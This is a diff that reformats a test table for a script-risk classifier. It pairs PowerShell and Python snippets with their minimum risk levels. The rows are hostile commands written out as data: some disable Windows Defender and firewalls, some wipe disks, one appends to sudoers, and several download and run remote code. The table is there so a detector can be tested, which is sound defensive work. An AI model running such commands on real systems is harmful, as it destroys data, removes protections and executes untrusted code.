@@ -1,7 +1,8 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are scripts
 import type { ScriptRisk } from '#rules/scripts/schema.ts'
 
-// What scripts can do, by language: the least risk that each must have, and scripts that must stay without one.
+// What scripts can do, by language: the least risk that each must have, and scripts that must stay without
+// one.
 
 type Row = [risk: ScriptRisk, script: string]
 
@@ -240,7 +241,10 @@ export const powershellRisks: readonly Row[] = [
   ['high', 'Remove-ItemProperty -Path HKLM:\\Software\\App -Name x'],
   ['high', 'reg delete HKLM\\Software\\App /f'],
   ['high', 'reg.exe delete HKLM\\Software\\App /f'],
-  ['high', 'Set-ItemProperty -Path "HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" -Name DisableAntiSpyware -Value 1'],
+  [
+    'high',
+    'Set-ItemProperty -Path "HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" -Name DisableAntiSpyware -Value 1',
+  ],
   ['high', 'Format-Volume -DriveLetter D -FileSystem NTFS'],
   ['high', 'Clear-Disk -Number 1 -RemoveData'],
   ['high', 'Get-Disk 1 | Initialize-Disk'],
@@ -293,7 +297,10 @@ export const powershellRisks: readonly Row[] = [
   ['high', '& ([scriptblock]::Create((irm https://example.com/a.ps1)))'],
   ['high', 'Invoke-WebRequest https://example.com/a.exe -OutFile C:\\a.exe\nStart-Process C:\\a.exe'],
   ['high', 'iwr https://example.com/a.ps1 -OutFile a.ps1\n.\\a.ps1'],
-  ['high', '$f = "$env:TEMP\\a.exe"\n(New-Object Net.WebClient).DownloadFile("https://example.com/a.exe", $f)\n& $f'],
+  [
+    'high',
+    '$f = "$env:TEMP\\a.exe"\n(New-Object Net.WebClient).DownloadFile("https://example.com/a.exe", $f)\n& $f',
+  ],
   ['high', 'certutil -urlcache -f https://example.com/a.exe a.exe\nStart-Process a.exe'],
   ['high', 'mshta https://example.com/a.hta'],
   ['high', 'Disable-BitLocker -MountPoint C:'],
@@ -404,7 +411,10 @@ export const pythonRisks: readonly Row[] = [
   ['high', 'open("/dev/sda", "wb").write(b"0")'],
   ['high', 'with open("/etc/sudoers", "a") as f:\n    f.write("x")'],
   ['high', 'import subprocess\nsubprocess.run(["ufw", "disable"])'],
-  ['high', 'import subprocess\nsubprocess.run(["netsh", "advfirewall", "set", "allprofiles", "state", "off"])'],
+  [
+    'high',
+    'import subprocess\nsubprocess.run(["netsh", "advfirewall", "set", "allprofiles", "state", "off"])',
+  ],
   ['medium', 'import subprocess\nsubprocess.call(["systemctl", "disable", "cups"])'],
   ['medium', 'import os\nos.system("shutdown -h now")'],
   ['medium', 'import ctypes\nctypes.windll.user32.ExitWindowsEx(2, 0)'],
